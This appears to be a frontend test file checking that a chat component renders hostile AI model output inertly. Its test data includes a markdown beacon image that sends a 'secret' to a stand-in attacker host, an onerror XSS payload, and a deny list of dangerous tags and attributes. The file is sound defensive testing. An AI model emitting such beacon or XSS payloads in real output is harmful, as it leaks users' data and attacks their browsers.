import { render } from '@testing-library/react';
import { describe, expect, it } from 'vitest';
import { hostileInputs } from '../../../markdown/test/hostile.js';
import { StreamingMessage } from './streaming-message.js';

const FORBIDDEN = 'script, iframe, object, embed, svg, math, form, style, link, meta, base, img, video, audio, source';

function assertInert(container: HTMLElement): void {
  expect(container.querySelectorAll(FORBIDDEN)).toHaveLength(0);
  for (const el of container.querySelectorAll('*')) {
    for (const attr of el.attributes) {
      expect(attr.name, el.outerHTML).not.toMatch(/^on/i);
      expect(attr.name).not.toMatch(/^(src|srcset|action|formaction|background|poster)$/i);
      if (attr.name === 'style') expect(attr.value).not.toMatch(/url\(|expression/i);
    }
  }
  for (const a of container.querySelectorAll('a')) {
    const href = a.getAttribute('href')!;
    if (href.startsWith('#')) continue; // footnote links within the message
    expect(href).toMatch(/^(https?:\/\/[^/\\]|mailto:)/);
    expect(a.getAttribute('rel')).toBe('noopener noreferrer nofollow');
  }
}

describe('<StreamingMessage> with hostile model output', () => {
  it.each(hostileInputs)('renders inertly: %s', (input) => {
    const { container, rerender } = render(<StreamingMessage text="" status="streaming" />);
    for (let end = 1; end <= input.length; end++) {
      rerender(<StreamingMessage text={input.slice(0, end)} status="streaming" />);
      assertInert(container);
    }
    rerender(<StreamingMessage text={input} status="complete" />);
    assertInert(container);
  });

  it('shows a placeholder instead of loading a beacon image', () => {
    const { container } = render(<StreamingMessage text="![](https://evil.example/?q=secret)" status="complete" />);
    const placeholder = container.querySelector('[data-part="blocked-image"]')!;
    expect(placeholder.getAttribute('role')).toBe('img');
    expect(placeholder.getAttribute('aria-label')).toBe('Image blocked: https://evil.example');
    expect(container.querySelector('img')).toBeNull();
  });

  it('shows raw HTML as text', () => {
    const { container } = render(<StreamingMessage text='<img src=x onerror="alert(1)">' status="complete" />);
    expect(container.querySelector('p')!.textContent).toBe('<img src=x onerror="alert(1)">');
  });

  it('loads images only from allowed origins, without a referrer', () => {
    const { container } = render(
      <StreamingMessage
        text="![chart](https://images.example/c.png) ![x](https://evil.example/x.png)"
        status="complete"
        urlPolicy={{ imageOrigins: ['https://images.example'] }}
      />,
    );
    const images = container.querySelectorAll('img');
    expect(images).toHaveLength(1);
    expect(images[0]!.getAttribute('src')).toBe('https://images.example/c.png');
    expect(images[0]!.getAttribute('referrerpolicy')).toBe('no-referrer');
  });
});
